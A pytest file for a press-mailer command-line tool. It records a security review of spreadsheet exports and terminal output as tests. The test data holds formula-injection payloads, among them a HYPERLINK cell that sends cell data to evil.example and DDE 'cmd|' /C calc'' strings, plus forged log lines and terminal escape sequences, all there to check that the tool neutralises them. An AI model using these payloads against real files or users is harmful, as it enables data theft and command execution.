"""Review 20b: a hostile review of how contact and event data leave mailer: CSV and XLSX files a
press officer opens in a spreadsheet, the terminal, and email headers. Each test is a finding,
through the command line, and failed before its fix (session 20)."""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any

import pytest
from eventlog import T0, sg_event
from office_cli import SEND, campaign_of, mailer, office

from mailer import contacts

# -- 1. A formula written with full-width signs ran in a spreadsheet -----------------------------

FULL_WIDTH = {
    "Ana": '\uff1dHYPERLINK("https://evil.example/?"&A2,"Ana")',  # ＝HYPERLINK(...)
    "Ben": "\uff0bSUM(1+1)",  # ＋SUM(1+1)
    "Cleo": "\u3000\uff0dcmd|' /C calc'!A0",  # an ideographic space, then －cmd|...
    "Dan": "\uff20SUM(1+1)",  # ＠SUM(1+1)
}


def test_full_width_formula_signs_are_written_as_text(tmp_path: Path, standin: Any, db_url: str) -> None:
    """A Japanese or Chinese Excel reads the full-width ＝, ＋, －, ＠ a CJK keyboard types as
    =, +, -, @: an outlet cell "＝HYPERLINK(...)" ran as a formula in the recipients report,
    the cleaned list and the suppressions file, where "=HYPERLINK(...)" was written "'=HYPERLINK(...)".
    They get the same leading apostrophe, and a cleaned list still reads back as it was."""
    beat = "Email,First Name,Last Name,Outlet\n" + "".join(
        f'{first.lower()}@paper.example,{first},Doe,"{outlet.replace(chr(34), chr(34) * 2)}"\n' for first, outlet in FULL_WIDTH.items()
    )
    office(tmp_path, standin, db_url, beat=beat)
    sent = mailer(*SEND)
    assert sent.exit_code == 0, sent.output
    campaign_id = campaign_of(sent)
    wrote = mailer("report", campaign_id, "--kind", "recipients", "-o", "recipients.csv")
    assert wrote.exit_code == 0, wrote.output
    with open("recipients.csv", encoding="utf-8-sig", newline="") as handle:
        outlets = {row["name"]: row["outlet"] for row in csv.DictReader(handle)}
    assert outlets == {f"{first} Doe": "'" + outlet.strip() for first, outlet in FULL_WIDTH.items()}, outlets
    cleaned = mailer("lists", "clean", "lists/beat.csv", "-o", "clean.csv")
    assert cleaned.exit_code == 0, cleaned.output
    with open("clean.csv", encoding="utf-8-sig", newline="") as handle:
        clean = {row["first_name"]: row["outlet"] for row in csv.DictReader(handle)}
    assert clean == {first: "'" + outlet.strip() for first, outlet in FULL_WIDTH.items()}, clean
    read_back = {contact.fields["first_name"]: contact.fields["outlet"] for contact in contacts.load("clean.csv").contacts}
    assert read_back == {first: outlet.strip() for first, outlet in FULL_WIDTH.items()}, read_back
    assert mailer("suppressions", "add", "eve@paper.example", "--reason", "\u3000\uff1dcmd|' /C calc'!A0").exit_code == 0
    listed = mailer("suppressions", "list", "-o", "suppressions.csv")
    assert listed.exit_code == 0, listed.output
    with open("suppressions.csv", encoding="utf-8-sig", newline="") as handle:
        notes = [row["note"] for row in csv.DictReader(handle)]
    assert notes == ["'\u3000\uff1dcmd|' /C calc'!A0"], notes


def test_every_form_of_a_formula_sign_is_listed() -> None:
    """spreadsheet.LOOKALIKE_STARTS is every character whose compatibility form (NFKC) starts with
    a formula sign, so a new Unicode version's addition is noticed here."""
    import sys
    import unicodedata

    from mailer.spreadsheet import ASCII_FORMULA_STARTS, LOOKALIKE_STARTS

    found = [c for c in map(chr, range(0x80, sys.maxunicode + 1)) if unicodedata.normalize("NFKC", c)[:1] in ASCII_FORMULA_STARTS]
    assert sorted(LOOKALIKE_STARTS) == found


# -- 3. mailer contact of a journalist who clicked read "opens by people: 0" ----------------------


def test_mailer_contact_says_a_journalist_who_clicked_opened_it(tmp_path: Path, standin: Any, db_url: str) -> None:
    """Ben reads his mail with images off (no open event) and Ana with Apple Mail (only Apple's
    pre-fetch is recorded); both clicked through to the release. The report counts both as
    opened by people (README: a journalist who clicked counts as opened), and `mailer report
    --who not-opened` leaves them out; `mailer contact` read "opens by people: 0; clicks: 1", and
    the press officer phoned them to ask whether they had seen it. The line says they opened it."""
    beat = "Email,First Name,Last Name,Outlet\nben@paper.example,Ben,Doe,Paper\nana@daily.example,Ana,Lima,Daily\n"
    office(tmp_path, standin, db_url, beat=beat)
    sent = mailer(*SEND)
    assert sent.exit_code == 0, sent.output
    campaign_id = campaign_of(sent)
    keys = {p["to"][0]["email"]: p["custom_args"]["message"] for r in standin.mail_sends for p in r.body["personalizations"]}
    events = [
        sg_event("delivered", "ben@paper.example", key=keys["ben@paper.example"], campaign_id=campaign_id, at=T0 + 5),
        sg_event(
            "click",
            "ben@paper.example",
            key=keys["ben@paper.example"],
            campaign_id=campaign_id,
            at=T0 + 600,
            url="https://www.example.org/",
        ),
        sg_event("delivered", "ana@daily.example", key=keys["ana@daily.example"], campaign_id=campaign_id, at=T0 + 5),
        sg_event("open", "ana@daily.example", key=keys["ana@daily.example"], campaign_id=campaign_id, at=T0 + 6, sg_machine_open=True),
        sg_event(
            "click",
            "ana@daily.example",
            key=keys["ana@daily.example"],
            campaign_id=campaign_id,
            at=T0 + 900,
            url="https://www.example.org/",
        ),
    ]
    Path("events.json").write_text(json.dumps(events), encoding="utf-8")
    assert mailer("events", "import", "events.json").exit_code == 0
    figures = json.loads(mailer("report", campaign_id, "--format", "json").stdout)["figures"]
    assert figures["opened_human"]["count"] == 2, figures
    ben, ana = mailer("contact", "ben@paper.example"), mailer("contact", "ana@daily.example")
    assert "  Outcome:  delivered; opened: clicked (no open recorded); clicks: 1\n" in ben.stdout, ben.stdout
    assert "  Outcome:  delivered; opened: clicked (only Apple's pre-fetch open recorded); clicks: 1\n" in ana.stdout, ana.stdout
    found = json.loads(mailer("contact", "ben@paper.example", "--json").stdout)["campaigns"][0]
    assert (found["opened"], found["human_opens"], found["clicks"]) == (True, 0, 1), found


# -- 4. The rejects file wrote a list's formula-like column headings as they were ----------------


def test_rejects_file_headings_are_written_as_text(tmp_path: Path) -> None:
    """A media database's export headed a column '=HYPERLINK("https://evil.example/?"&B2,"Notes")'.
    `mailer lists clean --rejects` wrote every cell of the rejected rows spreadsheet-safe, but the
    headings as they were: the press officer opened the rejects file in Excel to fix the rows,
    and the heading ran as a formula. Headings get the leading apostrophe too, and the file reads
    back with the list's own column names."""
    headings = ['=HYPERLINK("https://evil.example/?"&B2,"Notes")', "+cmd", "\uff20SUM(1)"]
    quoted = ",".join('"' + heading.replace('"', '""') + '"' for heading in headings)
    (tmp_path / "press.csv").write_text(
        f"Email,Name,{quoted}\nana@daily.example,Ana Lima,a,b,c\nbob@@x.example,Bob,d,e,f\n", encoding="utf-8"
    )
    cleaned = mailer(
        "lists", "clean", str(tmp_path / "press.csv"), "-o", str(tmp_path / "clean.csv"), "--rejects", str(tmp_path / "rejects.csv")
    )
    assert cleaned.exit_code == 0, cleaned.output
    with open(tmp_path / "rejects.csv", encoding="utf-8-sig", newline="") as handle:
        header = next(csv.reader(handle))
    assert header[2:5] == ["'" + heading for heading in headings], header
    original = json.loads(mailer("lists", "check", str(tmp_path / "press.csv"), "--json").stdout)["columns"]["custom"]
    read_back = json.loads(mailer("lists", "check", str(tmp_path / "rejects.csv"), "--json").stdout)["columns"]["custom"]
    assert {key: read_back[key] for key in original} == original, read_back


# -- 5. A line break in a bounce reason or a list cell printed a line of mailer's own --------------


def test_a_line_break_in_contact_or_event_data_starts_no_line_of_its_own(tmp_path: Path, standin: Any, db_url: str) -> None:
    """A receiving server's refusal, passed on by SendGrid as the bounce's reason, read
    "550 gone\\nzed@evil.example  unsubscribe  webhook  2026-01-01 00:00  asked": `mailer
    suppressions list` printed it as a second row, a suppression nobody made, and `| grep` found
    it as one. A list cell '"ana@x.example\\n  row 9: fine"' made `mailer lists check` print a line
    "row 9: fine" among the rejected rows. Such a line break is shown as \\n, as `mailer contact`
    shows it, on the terminal and through a pipe."""
    office(tmp_path, standin, db_url, beat="Email,First Name,Last Name,Outlet\nana@daily.example,Ana,Lima,Daily\n")
    sent = mailer(*SEND)
    assert sent.exit_code == 0, sent.output
    campaign_id = campaign_of(sent)
    key = standin.mail_sends[0].body["personalizations"][0]["custom_args"]["message"]
    forged = "zed@evil.example  unsubscribe  webhook  2026-01-01 00:00  asked"
    bounce = sg_event(
        "bounce", "ana@daily.example", key=key, campaign_id=campaign_id, at=T0 + 9, type="bounce", reason=f"550 gone\n{forged}"
    )
    Path("events.json").write_text(json.dumps([bounce]), encoding="utf-8")
    assert mailer("events", "import", "events.json").exit_code == 0
    listed = mailer("suppressions", "list")
    assert listed.exit_code == 0, listed.output
    lines = listed.stdout.splitlines()
    assert [line for line in lines if "zed@evil.example" in line] == [line for line in lines if line.startswith("ana@daily.example")], lines
    assert f"550 gone\\n{forged}" in listed.stdout, listed.stdout
    Path("press.csv").write_text('Email,Name\n"ana@x.example\n  row 9: fine",Ana\nbob@y.example,Bob\n', encoding="utf-8")
    checked = mailer("lists", "check", "press.csv")
    assert "  row 2: ana@x.example\\n  row 9: fine: " in checked.stdout, checked.stdout
    assert "\n  row 9" not in checked.stdout, checked.stdout


# -- 6. A full-width formula in a Name cell was split at its comma --------------------------------


def test_a_full_width_formula_name_is_kept_whole(tmp_path: Path) -> None:
    """A Name cell '=HYPERLINK("http://x.example","click")' is never split at its comma (it is no
    "Doe, Jane"), and is written back whole and spreadsheet-safe. Written with the full-width ＝,
    it was split: first name '"click")', greeting the journalist 'Dear "click"),', and last name
    '＝HYPERLINK("http://x.example"'. It is kept whole, as the ASCII one is."""
    (tmp_path / "press.csv").write_text('Email,Name\nb@x.example,"\uff1dHYPERLINK(""http://x.example"",""click"")"\n', encoding="utf-8")
    cleaned = mailer("lists", "clean", str(tmp_path / "press.csv"), "-o", str(tmp_path / "clean.csv"))
    assert cleaned.exit_code == 0, cleaned.output
    with open(tmp_path / "clean.csv", encoding="utf-8-sig", newline="") as handle:
        row = next(csv.DictReader(handle))
    assert (row["first_name"], row["last_name"]) == ('\'\uff1dHYPERLINK("http://x.example","click")', ""), row


# -- A guard, passing before this review: every command that prints contact or event data --------

HOSTILE_CELL = "\u009b31m\u009d0;title\u009c\u202e\u2066\u0085\u2028"  # C1 CSI, OSC and ST, bidi, NEL, line separator (a list refuses C0)
HOSTILE_EVENT = "\x1b]0;title\x07\x1b[2J\x1b[1A" + HOSTILE_CELL + "\r\x08"


@pytest.mark.sqlite_only
def test_no_command_prints_a_control_character_of_contact_or_event_data(
    tmp_path: Path, standin: Any, db_url: str, monkeypatch: Any
) -> None:
    """A list's cells and a webhook's events hold C0 and C1 controls (U+009B is a one-byte CSI some
    terminals obey) and bidirectional overrides. On a terminal, no command that prints them,
    as text, as a table or as JSON, lets one through: none can move the cursor, retitle the
    window, or reorder or hide text (review 20b leftover #1: checked, held)."""
    from mailer.cli import output

    beat = f'Email,First Name,Last Name,Outlet\nana@daily.example,"An{HOSTILE_CELL}a",Lima,"Dai{HOSTILE_CELL}ly"\nbad@@x.example,"Zed{HOSTILE_CELL}",Q,O\n'
    office(tmp_path, standin, db_url, beat=beat)
    sent = mailer(*SEND)
    assert sent.exit_code == 0, sent.output
    campaign_id = campaign_of(sent)
    key = standin.mail_sends[0].body["personalizations"][0]["custom_args"]["message"]
    events = [
        sg_event("open", "ana@daily.example", key=key, campaign_id=campaign_id, at=T0 + 6, useragent=f"UA{HOSTILE_EVENT}"),
        sg_event("click", "ana@daily.example", key=key, campaign_id=campaign_id, at=T0 + 7, url=f"https://x.example/{HOSTILE_EVENT}"),
        sg_event("bounce", "ana@daily.example", key=key, campaign_id=campaign_id, at=T0 + 9, type="bounce", reason=f"550 {HOSTILE_EVENT}"),
        sg_event(f"weird{HOSTILE_EVENT}", "ana@daily.example", key=key, campaign_id=campaign_id, at=T0 + 11),
    ]
    Path("events.json").write_text(json.dumps(events), encoding="utf-8")
    monkeypatch.setattr(output, "stdout_is_terminal", lambda: True)
    runs: list[tuple[str, ...]] = [
        ("events", "import", "events.json"),
        ("events", "import", "events.json", "--json"),
        ("contact", "ana@daily.example"),
        ("contact", "ana@daily.example", "--json"),
        ("status", campaign_id),
        ("campaigns",),
        ("lists", "check", "lists/beat.csv"),
        ("lists", "check", "lists/beat.csv", "--json"),
        ("suppressions", "list"),
        ("suppressions", "list", "--json"),
    ]
    for kind in ("summary", "recipients", "opens", "clicks", "bounces", "outlets"):
        runs += [("report", campaign_id, "--kind", kind), ("report", campaign_id, "--kind", kind, "--format", "json")]
        runs += [("report", campaign_id, "--kind", kind, "-o", "-")]
    allowed = set(output.SHOWN_AS_THEY_ARE) | {"\n"}
    for args in runs:
        ran = mailer(*args)
        assert ran.exit_code == 0, (args, ran.output)
        for stream in (ran.stdout, ran.stderr):
            acted_on = sorted({c for c in stream if not c.isprintable() and c not in allowed} - ({"\r"} if "-o" in args else set()))
            assert not acted_on, (args, acted_on, stream)
    # She opened and clicked before the bounce: the bounces report still lists her, its reason the
    # hostile text this test is about, and says she opened first (review 25r: the summary counts her
    # delivered, and an earlier attempt at that left her out of this report).
    bounces = mailer("report", campaign_id, "--kind", "bounces", "--format", "json")
    (row,) = json.loads(bounces.stdout)["rows"]
    assert (row["email"], row["opened_or_clicked"], row["reason"]) == ("ana@daily.example", "bounced after opening", f"550 {HOSTILE_EVENT}")


# -- 7. A line break in a cell an error quotes printed a line of its own -------------------------


def test_an_error_quoting_a_cell_keeps_it_on_one_line(tmp_path: Path) -> None:
    """An address cell above the header row held a line break ('"ana@x.example\\nError: nothing is
    wrong"'): `mailer lists check` refused the list quoting the row, and its message printed a
    second line "Error: nothing is wrong Ana")." of its own; a header cell with a line break did
    the same in "no email address column. Columns found: ...", and in `lists check`'s note on a
    second address column. A cell a message quotes is one line, its line break shown as \\n."""
    (tmp_path / "above.csv").write_text('"ana@x.example\nError: nothing is wrong",Ana\nEmail,Name\nbob@y.example,Bob\n', encoding="utf-8")
    (tmp_path / "headers.csv").write_text('"Name\nError: nothing is wrong",Outlet\nAna,Daily\n', encoding="utf-8")
    for name in ("above.csv", "headers.csv"):
        refused = mailer("lists", "check", str(tmp_path / name))
        assert refused.exit_code == 1, refused.output
        assert [line for line in refused.output.splitlines() if line.startswith("Error: nothing")] == [], refused.output
        assert "\\nError: nothing is wrong" in refused.output, refused.output
    (tmp_path / "noted.csv").write_text('Email,"E-mail\nAddress",Name\na@b.example,c@d.example,A\n', encoding="utf-8")
    noted = mailer("lists", "check", str(tmp_path / "noted.csv"))
    assert noted.exit_code == 0, noted.output
    assert [line for line in noted.output.splitlines() if line.startswith("Address")] == [], noted.output
    assert '  note:        "E-mail\\nAddress" also looks like an address column' in noted.output, noted.output
